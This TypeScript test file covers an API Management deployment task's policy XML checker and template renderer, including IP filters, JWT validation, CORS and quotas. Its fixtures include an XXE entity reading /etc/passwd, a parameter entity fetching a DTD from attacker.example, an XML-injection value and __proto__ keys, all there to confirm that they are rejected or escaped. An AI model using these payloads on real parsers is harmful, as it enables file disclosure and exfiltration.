import * as assert from 'node:assert/strict';
import { canonicalPolicy, checkPolicyXml, namedValueRefs, samePolicy } from '../../tasks/ApimDeploy/core/policy-xml';
import { CLIENT_IP_VARIABLE, renderPolicyTemplates } from '../../tasks/ApimDeploy/core/policy-templates';
import { POLICY } from './helpers';

const render = (yaml: string, level: 'global' | 'api' = 'api') => renderPolicyTemplates(yaml, 'policyTemplate', level);

describe('ApimDeploy policies', () => {
  describe('checkPolicyXml', () => {
    it('accepts a well-formed document', () => {
      checkPolicyXml({ source: 'p.xml', xml: POLICY });
    });
    const bad: Array<[string, string, RegExp, string?]> = [
      ['an unclosed element, with line and column', '<policies>\n<inbound>\n</policies>', /p\.xml:3:\d+: policy XML is not well-formed/],
      ['a root other than <policies>', '<policy><inbound /></policy>', /p\.xml:1: the root element must be <policies>/],
      ['an unknown section', '<policies>\n  <inbound />\n  <outbond />\n</policies>', /p\.xml:3: <policies> may hold only/],
      ['<base /> at the global scope', '<policies>\n<inbound>\n<base />\n</inbound>\n</policies>', /p\.xml:3: <base \/> is not allowed in the global/, 'global'],
    ];
    for (const [name, xml, expected, level] of bad) {
      it(`rejects ${name}`, () => {
        assert.throws(() => checkPolicyXml({ source: 'p.xml', xml }, (level as 'global') ?? 'api'), expected);
      });
    }
  });

  it('finds named-value references with lines, ignoring Liquid bodies', () => {
    const xml = '<policies>\n<inbound>\n<set-header name="k"><value>{{ key-1 }}</value></set-header>\n<set-body template="liquid">{{body.name}}</set-body>\n<set-query-parameter name="q"><value>{{q.v_2}}</value></set-query-parameter>\n</inbound>\n</policies>';
    assert.deepEqual(namedValueRefs(xml), [
      { name: 'key-1', line: 3 },
      { name: 'q.v_2', line: 5 },
    ]);
  });

  it('finds the references of a very large policy in one pass (the line count no longer restarts at each match)', () => {
    // 120,000 references over 6 MB: counting lines from the start for each one took minutes.
    const count = 120_000;
    const lines = ['<policies>', '<inbound>'];
    for (let i = 0; i < count; i++) lines.push(`<set-header name="h${i}" exists-action="override"><value>{{nv-${i}}}</value></set-header>`);
    lines.push('</inbound>', '</policies>');
    const refs = namedValueRefs(lines.join('\n'));
    assert.equal(refs.length, count);
    assert.deepEqual(refs[0], { name: 'nv-0', line: 3 });
    assert.deepEqual(refs[count / 2], { name: `nv-${count / 2}`, line: count / 2 + 3 });
    assert.deepEqual(refs[count - 1], { name: `nv-${count - 1}`, line: count + 2 });
  });

  it('counts lines across references on one line and across blank lines', () => {
    assert.deepEqual(namedValueRefs('{{a}}{{b}}\n\n\n<x>{{c}}</x>\n{{d}}'), [
      { name: 'a', line: 1 },
      { name: 'b', line: 1 },
      { name: 'c', line: 4 },
      { name: 'd', line: 5 },
    ]);
  });

  it('refuses an external entity in a policy as an error naming the file and the line of the declaration', () => {
    const xml = '<?xml version="1.0"?>\n<!DOCTYPE policies [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<policies>\n  <inbound>&xxe;</inbound>\n</policies>';
    assert.throws(() => checkPolicyXml({ source: 'policies/api.xml', xml }), (err: Error) => {
      assert.equal(err.name, 'FileError');
      assert.match(err.message, /^policies\/api\.xml:3: the policy declares an external entity \(<!ENTITY xxe SYSTEM …\), which could read files or URLs of the agent/);
      return true;
    });
    const parameterEntity = '<!DOCTYPE policies [\n<!ENTITY % remote PUBLIC "-//x" "https://attacker.example/x.dtd">\n%remote;\n]>\n<policies />';
    assert.throws(() => checkPolicyXml({ source: 'p.xml', xml: parameterEntity }), /^FileError: p\.xml:2: the policy declares an external entity/);
  });

  it('compares policies by structure, not by formatting or comments', () => {
    const reformatted = POLICY.replace(/"/g, "'").replace(/\n\s*/g, '\r\n\t').replace('<inbound>', '<inbound><!-- note -->');
    assert.ok(samePolicy(reformatted, POLICY));
    assert.ok(!samePolicy(POLICY.replace('test', 'prod'), POLICY));
    assert.ok(!samePolicy(undefined, POLICY));
    assert.notEqual(canonicalPolicy(POLICY), canonicalPolicy(POLICY.replace('override', 'append')));
  });

  describe('templates', () => {
    it('composes several into one document with <base /> in every section below global, CORS before it', () => {
      const xml = render('- rateLimitByKey: { calls: 10 }\n- cors: { allowedOrigins: [https://a.contoso.com] }\n');
      checkPolicyXml({ source: 't', xml });
      const inbound = /<inbound>([\s\S]*?)<\/inbound>/.exec(xml)![1];
      assert.ok(inbound.indexOf('<cors') < inbound.indexOf('<base />'), 'cors first');
      assert.ok(inbound.indexOf('<base />') < inbound.indexOf('<rate-limit-by-key'), 'rate limit after base');
      for (const s of ['backend', 'outbound', 'on-error']) assert.match(xml, new RegExp(`<${s}>\\s*<base />\\s*</${s}>`));
    });

    it('at the global scope: no <base />, the backend forwards the request', () => {
      const xml = render('- checkHeader: { name: X-Env, values: [prod] }', 'global');
      checkPolicyXml({ source: 't', xml }, 'global');
      assert.doesNotMatch(xml, /<base/);
      assert.match(xml, /<backend>\s*<forward-request \/>\s*<\/backend>/);
    });

    it('ipFilter on the connection address uses the native ip-filter with CIDR converted to a range', () => {
      const xml = render('- ipFilter: { action: forbid, addresses: [198.51.100.7], ranges: [10.1.0.0/16, 192.168.0.1-192.168.0.9] }');
      assert.match(xml, /<ip-filter action="forbid"><address>198\.51\.100\.7<\/address><address-range from="10\.1\.0\.0" to="10\.1\.255\.255" \/><address-range from="192\.168\.0\.1" to="192\.168\.0\.9" \/><\/ip-filter>/);
    });

    it('validateJwt keeps a required claim whatever its name (a Map, not an object: __proto__ and constructor are claims too)', () => {
      const xml = render('- validateJwt: { tenantId: 0f0e0d0c-0000-4000-8000-000000000001, audiences: [api://orders], requiredClaims: { __proto__: [a], constructor: b, roles: [Orders.Read] } }');
      assert.match(xml, /<required-claims><claim name="__proto__" match="any"><value>a<\/value><\/claim><claim name="constructor" match="any"><value>b<\/value><\/claim><claim name="roles" match="any"><value>Orders\.Read<\/value><\/claim><\/required-claims>/);
    });

    it('ipFilter on X-Forwarded-For compares an IPv6 address in the text the gateway prints (RFC 5952), however it was written', () => {
      const xml = render('- ipFilter: { action: forbid, addresses: ["2001:DB8:0:0::1", 198.51.100.7], clientAddressFrom: x-forwarded-for }');
      assert.match(xml, /new string\[\] \{ &quot;2001:db8::1&quot;, &quot;198\.51\.100\.7&quot; \}/);
      assert.doesNotMatch(xml, /2001:db8:0:0::1/i);
    });

    it('ipFilter on X-Forwarded-For: only the proxy may call, the client is the N-th entry from the right', () => {
      const xml = render('- ipFilter: { action: allow, ranges: [10.0.0.0/8], clientAddressFrom: x-forwarded-for, trustedProxyHops: 2, proxyAddresses: [172.16.0.4] }');
      checkPolicyXml({ source: 't', xml });
      assert.match(xml, /<ip-filter action="allow"><address>172\.16\.0\.4<\/address><\/ip-filter>/);
      assert.match(xml, new RegExp(`<set-variable name="${CLIENT_IP_VARIABLE}"`));
      assert.match(xml, /parts\.Length - 2;/, 'right-most trusted entry, not parts[0]');
      assert.doesNotMatch(xml, /parts\[0\]/);
      assert.match(xml, /v &gt;= 167772160L &amp;&amp; v &lt;= 184549375L/, '10.0.0.0/8 as numbers, XML-escaped');
      assert.match(xml, /<return-response><set-status code="403"/);
    });

    it('validateJwt for Entra: openid-config of the tenant, v1 and v2 issuers, audiences, required claims', () => {
      const tenant = '72f988bf-86f1-41af-91ab-2d7cd011db47';
      const xml = render(`- validateJwt: { tenantId: ${tenant}, audiences: [api://orders], requiredClaims: { roles: [Orders.Read, Orders.Write] } }`);
      assert.match(xml, new RegExp(`<openid-config url="https://login.microsoftonline.com/${tenant}/v2.0/.well-known/openid-configuration" />`));
      assert.match(xml, new RegExp(`<issuer>https://login.microsoftonline.com/${tenant}/v2.0</issuer><issuer>https://sts.windows.net/${tenant}/</issuer>`));
      assert.match(xml, /<audience>api:\/\/orders<\/audience>/);
      assert.match(xml, /<claim name="roles" match="any"><value>Orders\.Read<\/value><value>Orders\.Write<\/value><\/claim>/);
      assert.match(xml, /require-scheme="Bearer"/);
    });

    it('quotaByKey, checkHeader and clientCertificate render their policies', () => {
      const xml = render(
        '- quotaByKey: { calls: 1000, bandwidth: 4000, renewalPeriod: 86400, key: subscription }\n- checkHeader: { name: X-Tenant, values: [a, b], failedCheckHttpCode: 403 }\n- clientCertificate: { thumbprints: ["ab:cd:ef:01:23:45:67:89:ab:cd:ef:01:23:45:67:89:ab:cd:ef:01"], issuerSubjects: ["CN=Contoso CA"] }',
      );
      assert.match(xml, /<quota-by-key calls="1000" bandwidth="4000" renewal-period="86400" counter-key="@\(context\.Subscription\?\.Id \?\? context\.Request\.IpAddress\)" \/>/);
      assert.match(xml, /<check-header name="X-Tenant" failed-check-httpcode="403"[^>]*><value>a<\/value><value>b<\/value><\/check-header>/);
      assert.match(xml, /<identity thumbprint="ABCDEF0123456789ABCDEF0123456789ABCDEF01" \/><identity issuer-subject="CN=Contoso CA" \/>/);
    });

    it('escapes values, so a parameter cannot inject XML', () => {
      const xml = render('- checkHeader: { name: "X-A\\"><evil/>", values: ["<b>"] }');
      checkPolicyXml({ source: 't', xml });
      assert.doesNotMatch(xml, /<evil/);
      assert.match(xml, /&lt;b&gt;/);
    });

    const invalid: Array<[string, string, RegExp]> = [
      ['CORS with *', '- cors: { allowedOrigins: ["*"] }', /item 1 \(cors\): list the origins explicitly/],
      ['CORS with * and credentials', '- cors: { allowedOrigins: ["*"], allowCredentials: true }', /any site make credentialed calls/],
      ['CORS with a path instead of an origin', '- cors: { allowedOrigins: [https://a.com/app] }', /is not an origin/],
      ['a bad IP address', '- ipFilter: { action: allow, addresses: [10.0.0.300] }', /'addresses' entry '10\.0\.0\.300' is not an IP address/],
      ['a bad range', '- ipFilter: { action: allow, ranges: [10.0.0.9-10.0.0.1] }', /starts after it ends/],
      ['an IPv6 address with a zone index', '- ipFilter: { action: forbid, addresses: ["fe80::1%eth0"] }', /'addresses' entry 'fe80::1%eth0' is not an IP address: .*zone index/],
      ['a proxy address with leading zeros (octal to some readers)', '- ipFilter: { action: allow, addresses: [10.0.0.1], clientAddressFrom: x-forwarded-for, proxyAddresses: [010.0.0.4] }', /'proxyAddresses' entry '010\.0\.0\.4' is not an IP address: .*not canonical IPv4/],
      ['a range with leading zeros', '- ipFilter: { action: allow, ranges: [010.0.0.0/8] }', /'ranges' entry '010\.0\.0\.0\/8' is not an IPv4 CIDR range: .*not canonical/],
      ['an IPv6 range', '- ipFilter: { action: allow, ranges: ["2001:db8::/32"] }', /'ranges' entry '2001:db8::\/32' is an IPv6 range; ranges are IPv4/],
      ['a single address as a range', '- ipFilter: { action: allow, ranges: [10.0.0.1] }', /'ranges' entry '10\.0\.0\.1' is not a range: use 'first-last'/],
      ['an unknown template', '- ipFiltre: { action: allow }', /item 1: unknown template 'ipFiltre'/],
      ['a template named like an Object member (toString)', '- toString: {}', /item 1: unknown template 'toString' \(templates: ipFilter,/],
      ['a template named constructor', '- constructor: { calls: 5 }', /item 1: unknown template 'constructor'/],
      ['a template named __proto__', '- __proto__: { calls: 5 }', /item 1: unknown template '__proto__'/],
      ['a misspelt parameter', '- rateLimitByKey: { calls: 5, renewalperiod: 10 }', /unknown parameter 'renewalperiod'/],
      ['a tenant that is not a GUID', '- validateJwt: { tenantId: contoso.com, audiences: [x] }', /'tenantId' must be the directory \(tenant\) id/],
      ['not a list', 'rateLimitByKey: { calls: 5 }', /expected a YAML list of templates/],
      ['a bad thumbprint', '- clientCertificate: { thumbprints: [abc] }', /not 40 hex digits/],
    ];
    for (const [name, yaml, expected] of invalid) {
      it(`rejects ${name}, naming the input`, () => {
        assert.throws(() => render(yaml), (err: Error) => {
          assert.match(err.message, /^Input 'policyTemplate': /);
          assert.match(err.message, expected);
          return true;
        });
      });
    }
  });
});
